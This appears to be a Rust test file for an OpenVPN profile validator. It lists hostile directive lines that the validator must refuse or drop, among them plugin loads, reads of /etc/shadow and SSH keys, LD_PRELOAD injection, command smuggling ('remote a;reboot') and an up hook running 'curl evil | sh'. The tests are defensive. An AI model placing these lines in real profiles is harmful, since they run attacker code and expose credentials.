//! Lines that do harm, or would if they were taken.

use egress_core::catalog::OnHooks;
use egress_core::fault::{Faults, Finding, Severity};
use egress_core::openvpn::{self, SIZE_MAX};

use crate::profiles::{parsed, written};
use crate::templates::{parse, sound};

/// What stands in a sound profile from its second line on; the directive and the line, counted
/// within, of the one fault that this makes.
const REFUSED: &[(&str, Option<&str>, u32)] = &[
    // Code.
    ("plugin /tmp/x.so", Some("plugin"), 1),
    ("  plugin /tmp/x.so", Some("plugin"), 1),
    ("--plugin /tmp/x.so", Some("plugin"), 1),
    ("\"plugin\" /tmp/x.so", Some("plugin"), 1),
    ("'plugin' /tmp/x.so", Some("plugin"), 1),
    ("\"--plugin\" /tmp/x.so", Some("plugin"), 1),
    ("pl\\\\ugin x", None, 1),
    ("setenv opt plugin /tmp/x.so", Some("plugin"), 1),
    ("setenv opt setenv opt plugin /tmp/x.so", Some("plugin"), 1),
    ("\"setenv\" 'opt' plugin /tmp/x.so", Some("plugin"), 1),
    ("--setenv opt \"plugin\" /tmp/x.so", Some("plugin"), 1),
    ("setenv opt tls-verify /tmp/x", Some("tls-verify"), 1),
    ("setenv opt config /etc/shadow", Some("config"), 1),
    ("setenv opt --plugin /tmp/x.so", Some("--plugin"), 1),
    ("setenv opt", Some("setenv"), 1),
    ("providers /tmp/x.so", Some("providers"), 1),
    ("providers legacy default", Some("providers"), 1),
    ("pkcs11-providers /tmp/x.so", Some("pkcs11-providers"), 1),
    ("pkcs11-id x", Some("pkcs11-id"), 1),
    ("engine dynamic", Some("engine"), 1),
    ("iproute /tmp/x", Some("iproute"), 1),
    ("tls-verify /tmp/x", Some("tls-verify"), 1),
    ("auth-user-pass-verify /tmp/x via-env", Some("auth-user-pass-verify"), 1),
    ("client-connect /tmp/x", Some("client-connect"), 1),
    ("learn-address /tmp/x", Some("learn-address"), 1),
    ("tls-crypt-v2-verify /tmp/x", Some("tls-crypt-v2-verify"), 1),
    ("setcon x", Some("setcon"), 1),
    // Files.
    ("config /etc/shadow", Some("config"), 1),
    ("config other.conf", Some("config"), 1),
    ("--config other.conf", Some("config"), 1),
    ("cd /etc", Some("cd"), 1),
    ("chroot /tmp", Some("chroot"), 1),
    ("ca /etc/passwd", Some("ca"), 1),
    ("capath /etc/ssl", Some("capath"), 1),
    ("cert client.crt", Some("cert"), 1),
    ("key client.key", Some("key"), 1),
    ("pkcs12 client.p12", Some("pkcs12"), 1),
    ("extra-certs chain.pem", Some("extra-certs"), 1),
    ("crl-verify crl.pem", Some("crl-verify"), 1),
    ("crl-verify /etc dir", Some("crl-verify"), 1),
    ("tls-auth ta.key 1", Some("tls-auth"), 1),
    ("tls-crypt \"tc key.pem\"", Some("tls-crypt"), 1),
    ("tls-crypt-v2 c.key", Some("tls-crypt-v2"), 1),
    ("tls-crypt [inline]", Some("tls-crypt"), 1),
    ("secret static.key", Some("secret"), 1),
    ("writepid /etc/cron.d/x", Some("writepid"), 1),
    ("replay-persist /etc/x", Some("replay-persist"), 1),
    ("tls-export-cert /etc", Some("tls-export-cert"), 1),
    ("genkey secret /etc/x", Some("genkey"), 1),
    ("tmp-dir /etc", Some("tmp-dir"), 1),
    ("memstats /etc/x", Some("memstats"), 1),
    ("management-external-key", Some("management-external-key"), 1),
    ("cryptoapicert SUBJ:x", Some("cryptoapicert"), 1),
    // Less protection than there should be.
    ("cipher none", Some("cipher"), 1),
    ("cipher NULL", Some("cipher"), 1),
    ("data-ciphers AES-256-GCM:none", Some("data-ciphers"), 1),
    ("ncp-ciphers none", Some("ncp-ciphers"), 1),
    ("data-ciphers-fallback none", Some("data-ciphers-fallback"), 1),
    ("auth none", Some("auth"), 1),
    ("auth NULL", Some("auth"), 1),
    ("tls-cipher NULL-SHA256", Some("tls-cipher"), 1),
    ("tls-cipher DEFAULT:aNULL", Some("tls-cipher"), 1),
    ("no-replay", Some("no-replay"), 1),
    ("no-iv", Some("no-iv"), 1),
    ("allow-compression yes", Some("allow-compression"), 1),
    ("remote-cert-tls client", Some("remote-cert-tls"), 1),
    ("ns-cert-type client", Some("ns-cert-type"), 1),
    ("verify-x509-name \"\"", Some("verify-x509-name"), 1),
    ("x509-username-field ext:subjectAltName", Some("x509-username-field"), 1),
    ("tls-remote server", Some("tls-remote"), 1),
    ("peer-fingerprint 00:11", Some("peer-fingerprint"), 1),
    // What the agent cannot carry.
    ("dev tap", Some("dev"), 1),
    ("dev tap0", Some("dev"), 1),
    ("dev null", Some("dev"), 1),
    ("dev-type tap", Some("dev-type"), 1),
    ("http-proxy 10.0.0.1 8080 /etc/passwd", Some("http-proxy"), 1),
    ("socks-proxy 10.0.0.1 1080 /etc/passwd", Some("socks-proxy"), 1),
    ("client-nat snat 10.0.0.0 255.0.0.0 10.1.0.0", Some("client-nat"), 1),
    ("mode server", Some("mode"), 1),
    ("server 10.8.0.0 255.255.255.0", Some("server"), 1),
    ("tls-server", Some("tls-server"), 1),
    ("auth-token x", Some("auth-token"), 1),
    ("show-ciphers", Some("show-ciphers"), 1),
    ("setenv GENERIC_CONFIG 1", Some("setenv"), 1),
    // Where a server cannot be.
    ("remote 127.0.0.1 1194", Some("remote"), 1),
    ("remote ::1", Some("remote"), 1),
    ("remote localhost", Some("remote"), 1),
    ("remote 169.254.169.254 80", Some("remote"), 1),
    ("remote 0x7f000001", Some("remote"), 1),
    ("remote 2130706433", Some("remote"), 1),
    ("remote a;reboot", Some("remote"), 1),
    ("remote \"a b\"", Some("remote"), 1),
    ("remote \"a\\\" plugin\"", Some("remote"), 1),
    ("remote a.example 0", Some("remote"), 1),
    ("remote a.example http", Some("remote"), 1),
    ("remote a.example 1194 quic", Some("remote"), 1),
    ("remote a.example 1194 tcp-server", Some("remote"), 1),
    ("remote 198.51.100.1 1194 udp6", Some("remote"), 1),
    ("remote a.example 1 udp x", Some("remote"), 1),
    ("remote", Some("remote"), 1),
    ("proto tcp-server", Some("proto"), 1),
    ("port 0", Some("port"), 1),
    // What openvpn could not count, or would read differently.
    ("tun-mtu 100", Some("tun-mtu"), 1),
    ("tun-mtu 1e9", Some("tun-mtu"), 1),
    ("sndbuf 99999999", Some("sndbuf"), 1),
    ("explicit-exit-notify 1000000", Some("explicit-exit-notify"), 1),
    ("ping -1", Some("ping"), 1),
    ("keepalive 10", Some("keepalive"), 1),
    ("key-direction 2", Some("key-direction"), 1),
    ("socket-flags TCP_FASTOPEN", Some("socket-flags"), 1),
    ("static-challenge only-text", Some("static-challenge"), 1),
    ("tls-version-min 1.3\ntls-version-max 1.2", Some("tls-version-max"), 2),
    ("allow-compression no\ncomp-lzo yes", Some("comp-lzo"), 2),
    ("tun-mtu 1400\nlink-mtu 1500", Some("link-mtu"), 2),
    ("fragment 1300\nremote a.example 443 tcp", Some("fragment"), 1),
    // Words.
    ("Plugin x", None, 1),
    ("remot a.example", Some("remot"), 1),
    ("<<<<<<< HEAD", None, 1),
    ("-plugin x", Some("-plugin"), 1),
    ("----plugin x", Some("--plugin"), 1),
    ("\u{200b}plugin x", None, 1),
    ("plugin\u{a0}x", None, 1),
    ("\"verb 3", None, 1),
    ("'verb 3", None, 1),
    ("verb 3\\", None, 1),
    ("verb \\3", None, 1),
    ("verb 3\0plugin x", None, 1),
    ("# \0 in a comment", None, 1),
    ("verb 3 \u{1b}[2K", None, 1),
    ("verb 3\rplugin x", None, 1),
    ("\u{feff}verb 3", None, 1),
    ("verb 3 # \u{feff}", None, 1),
    ("verb\u{b}3", None, 1),
    // Tags.
    ("<plugin>\n/tmp/x.so\n</plugin>", Some("plugin"), 1),
    ("<up>\n/tmp/x\n", None, 1),
    ("<remote>\na.example\n</remote>", Some("remote"), 1),
    ("<verb-x>\n3\n</verb-x>", Some("verb-x"), 1),
    ("</ca>", None, 1),
    ("<>\nx\n</>", None, 1),
    ("<key>\nnone\n</key> plugin x", None, 3),
    ("<connection>\nremote a.example\nplugin x\n</connection>", Some("connection"), 3),
    ("<connection>\nremote a.example\nhttp-proxy a 1\n</connection>", Some("connection"), 3),
    ("<connection>\nproto udp\n</connection>", Some("connection"), 1),
    ("<connection>\nremote a.example\nremote b.example\n</connection>", Some("connection"), 3),
    ("<connection>\nremote a.example\n<ca>\n</ca>\n</connection>", Some("connection"), 3),
    ("connection x", Some("connection"), 1),
    (
        "<tls-auth>\n-----BEGIN OpenVPN Static key V1-----\n00\n-----END OpenVPN Static key V1-----\n</tls-auth>",
        Some("tls-auth"),
        2,
    ),
    ("<auth-user-pass>\nonly-a-name\n</auth-user-pass>", Some("auth-user-pass"), 1),
    ("<secret>\nx\n</secret>", Some("secret"), 1),
    ("<http-proxy-user-pass>\nx\ny\n</http-proxy-user-pass>", Some("http-proxy-user-pass"), 1),
];

/// Lines that are left out, each with a note of its directive.
const DROPPED: &[(&str, &str)] = &[
    ("script-security 3", "script-security"),
    ("auth-user-pass /etc/shadow", "auth-user-pass"),
    ("auth-user-pass ../../root/.ssh/id_rsa", "auth-user-pass"),
    ("askpass /etc/shadow", "askpass"),
    ("management 0.0.0.0 7505", "management"),
    ("management /tmp/x unix /etc/shadow", "management"),
    ("management-client-user root", "management-client-user"),
    ("log /etc/cron.d/x", "log"),
    ("log-append /etc/cron.d/x", "log-append"),
    ("status /etc/cron.d/x", "status"),
    ("syslog", "syslog"),
    ("daemon", "daemon"),
    ("user root", "user"),
    ("group root", "group"),
    ("verb 11", "verb"),
    ("verb 7", "verb"),
    ("setenv LD_PRELOAD /tmp/x.so", "setenv"),
    ("setenv PATH /tmp", "setenv"),
    ("setenv-safe X y", "setenv-safe"),
    ("ignore-unknown-option plugin", "ignore-unknown-option"),
    ("push-peer-info", "push-peer-info"),
    ("echo secret", "echo"),
    ("lport 53", "lport"),
    ("bind", "bind"),
    ("multihome", "multihome"),
    ("dev-node /tmp/tun", "dev-node"),
    ("dev tun99", "dev"),
    ("route 0.0.0.0 0.0.0.0 net_gateway", "route"),
    ("route-gateway 10.0.0.1", "route-gateway"),
    ("redirect-gateway local", "redirect-gateway"),
    ("ifconfig 10.0.0.1 10.0.0.2", "ifconfig"),
    ("allow-recursive-routing", "allow-recursive-routing"),
    ("dhcp-option DNS 127.0.0.1", "dhcp-option"),
    ("dhcp-option PROXY_HTTP 10.0.0.1 8080", "dhcp-option"),
    ("resolv-retry 0", "resolv-retry"),
    ("connect-retry-max 1", "connect-retry-max"),
    ("remap-usr1 SIGTERM", "remap-usr1"),
    ("inactive 1", "inactive"),
    ("ping-exit 1", "ping-exit"),
    ("session-timeout 1", "session-timeout"),
    ("persist-tun", "persist-tun"),
    ("mlock", "mlock"),
    ("nice -20", "nice"),
    ("<dh>\nx\n</dh>", "dh"),
];

/// Lines that are left out although somebody may miss them: a warning each.
const MISSED: &[(&str, &str)] = &[
    ("pull-filter accept \"\"", "pull-filter"),
    ("pull-filter accept verb", "pull-filter"),
    ("local 10.0.0.1", "local"),
    ("bind-dev eth0", "bind-dev"),
    ("mark 255", "mark"),
    ("route-nopull", "route-nopull"),
    ("shaper 100", "shaper"),
    ("cipher BF-CBC", "cipher"),
    ("data-ciphers-fallback BF-CBC", "data-ciphers-fallback"),
    ("redirect-private", "redirect-private"),
];

/// Programs that would run when the tunnel's network changes.
const HOOKS: &[(&str, &str)] = &[
    ("up /tmp/evil", "up"),
    ("up \"/bin/sh -c 'curl evil | sh'\"", "up"),
    ("setenv opt up /tmp/evil", "up"),
    ("--up /tmp/evil", "up"),
    ("down /tmp/evil", "down"),
    ("ipchange /tmp/x", "ipchange"),
    ("route-up /tmp/x", "route-up"),
    ("route-pre-down /tmp/x", "route-pre-down"),
];

fn spoilt(text: &str) -> String {
    sound().replacen("dev tun", text, 1)
}

fn faults(text: &str) -> Vec<Finding> {
    match parse(text) {
        Ok(_) => Vec::new(),
        Err(Faults(mut findings)) => {
            findings.retain(|finding| finding.severity == Severity::Fault);
            findings
        }
    }
}

#[test]
fn every_hostile_line_is_refused_with_its_directive_and_line() {
    assert!(faults(&sound()).is_empty() && REFUSED.len() >= 80);
    for (text, directive, line) in REFUSED {
        let found = faults(&spoilt(text));
        let places: Vec<_> = found.iter().map(|f| (f.field.as_deref(), f.line)).collect();
        assert!(places.contains(&(*directive, Some(line + 1))), "{text:?}: {found:?}");
    }
}

#[test]
fn a_hostile_line_is_one_fault_and_not_several() {
    // A block without an end takes the rest of the text with it.
    for (text, ..) in REFUSED.iter().filter(|(text, ..)| !text.starts_with("<up>")) {
        let found = faults(&spoilt(text));
        let key_alone = text.starts_with("<key>");
        assert_eq!(found.len(), if key_alone { 2 } else { 1 }, "{text:?}: {found:?}");
    }
}

/// Reads a sound profile with this line in it. What is found of the line has this class.
#[track_caller]
fn is_left_out(text: &str, directive: &str, on_hooks: OnHooks, class: Severity) {
    let read = openvpn::parse(&spoilt(text), on_hooks);
    let (config, findings) = read.unwrap_or_else(|why| panic!("{text}: {why}"));
    let told = findings.iter().any(|found| {
        found.severity == class
            && found.field.as_deref() == Some(directive)
            && found.line == Some(2)
    });
    assert!(told, "{text:?}: {findings:?}");
    assert_eq!(written(&config), written(&parsed(&sound())), "{text:?}");
}

#[test]
fn what_is_left_out_is_noted_and_does_not_reach_openvpn() {
    for (text, directive) in DROPPED {
        is_left_out(text, directive, OnHooks::Refuse, Severity::Note);
    }
}

#[test]
fn what_somebody_may_miss_is_left_out_with_a_warning() {
    for (text, directive) in MISSED {
        is_left_out(text, directive, OnHooks::Refuse, Severity::Warning);
    }
}

#[test]
fn commands_are_refused_or_left_out_with_a_warning_as_the_provider_says() {
    for (text, directive) in HOOKS {
        let found = faults(&spoilt(text));
        assert_eq!(found.len(), 1, "{text:?}: {found:?}");
        assert_eq!((found[0].field.as_deref(), found[0].line), (Some(*directive), Some(2)));
        assert!(found[0].message.contains("--drop-hooks"), "{found:?}");
        is_left_out(text, directive, OnHooks::Drop, Severity::Warning);
    }
}

/// Whatever the provider says: without them the server would be checked less.
#[test]
fn commands_that_check_the_server_are_never_left_out() {
    for text in ["tls-verify /tmp/x", "auth-user-pass-verify /tmp/x via-env", "plugin /tmp/x.so"] {
        assert!(openvpn::parse(&spoilt(text), OnHooks::Drop).is_err(), "{text}");
    }
}

#[test]
fn what_means_nothing_outside_a_connection_means_nothing_inside_one() {
    let block = "<connection>\nremote vpn.example 443\nconnect-retry-max 3\nverb 4\n</connection>";
    let (config, findings) = parse(&spoilt(block)).unwrap();
    assert_eq!(config.remotes.len(), 1);
    let noted: Vec<_> = findings.iter().filter(|it| it.line.is_some_and(|at| at < 6)).collect();
    assert_eq!(noted.iter().map(|it| it.line.unwrap()).collect::<Vec<_>>(), [4, 5], "{noted:?}");
    let other = block.replace("verb 4", "fragment 1300");
    assert_eq!(faults(&spoilt(&other))[0].line, Some(5));
}

#[test]
fn no_finding_repeats_a_value() {
    const CANARY: &str = "CANARY7secret";
    for (text, ..) in REFUSED {
        for spoilt_by in [format!("{text} {CANARY}"), text.replacen(' ', &format!(" {CANARY} "), 1)]
        {
            if let Err(faults) = parse(&spoilt(&spoilt_by)) {
                assert!(!faults.to_string().contains(CANARY), "{spoilt_by:?}: {faults}");
            }
        }
    }
    for line in
        [CANARY.to_owned(), format!("<{CANARY}>"), format!("\"{CANARY}"), format!("MII{CANARY}=")]
    {
        let faults = parse(&spoilt(&line)).unwrap_err();
        assert!(!faults.to_string().contains(CANARY), "{line}: {faults}");
    }
}

/// Between pieces of 255 bytes openvpn would see the end of a block where others see a long line.
#[test]
fn a_block_that_ends_inside_a_long_line_is_refused() {
    let key = format!("<key>\n{}</key>\nplugin /tmp/x.so\n</key>", "A".repeat(255));
    let found = faults(&spoilt(&key));
    assert!(found.iter().any(|fault| fault.line == Some(3)), "{found:?}");
    assert!(found.iter().any(|fault| fault.field.as_deref() == Some("plugin")), "{found:?}");
}

#[test]
fn lines_and_words_that_are_too_long_are_refused_where_openvpn_refuses_them() {
    let comment = |length: usize| format!("#{}", "x".repeat(length - 1));
    assert!(faults(&spoilt(&comment(254))).is_empty());
    assert_eq!(faults(&spoilt(&comment(255)))[0].line, Some(2));
    let name = |length: usize| format!("verify-x509-name {}", "x".repeat(length));
    assert!(faults(&spoilt(&name(230))).is_empty());
    assert_eq!(faults(&spoilt(&name(240)))[0].line, Some(2));
    // Written out it would be twice as long.
    let quotes = format!("verify-x509-name '{}'", "\"".repeat(200));
    assert_eq!(faults(&spoilt(&quotes))[0].field.as_deref(), Some("verify-x509-name"));
}

#[test]
fn an_unknown_directive_comes_with_a_suggestion() {
    let found = faults(&spoilt("remote-cert-tsl server"));
    assert!(found[0].message.contains("Did you mean remote-cert-tls?"), "{found:?}");
}

#[test]
fn a_file_is_asked_for_between_tags() {
    let found = faults(&spoilt("tls-auth ta.key 1"));
    assert_eq!(
        found[0].message,
        "inline this file: put what is in it between <tls-auth> and </tls-auth>"
    );
}

#[test]
fn whole_texts_that_are_no_profile_are_refused() {
    for text in ["", "\n\n", "client\n", "{\"a\": 1}", "<html>\n</html>", "remote a.example\n"] {
        assert!(!faults(text).is_empty(), "{text:?} was taken");
    }
    let large = format!("{}{}", sound(), "#\n".repeat(SIZE_MAX / 2));
    assert_eq!(faults(&large).len(), 1);
}
